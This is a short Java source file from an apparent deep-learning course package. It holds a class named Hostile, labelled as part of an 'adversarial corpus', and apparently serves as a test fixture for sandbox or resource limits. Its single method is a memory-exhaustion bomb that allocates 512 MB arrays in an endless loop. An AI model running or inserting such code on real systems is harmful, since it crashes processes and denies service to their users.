package org.dlcourse.softmax;

/** A hostile helper of the adversarial corpus. */
final class Hostile {

    private Hostile() {
    }

    static void act() {
        java.util.List<long[]> hoard = new java.util.ArrayList<>();
        while (hoard.size() >= 0) {
            hoard.add(new long[1 << 26]);
        }
    }
}
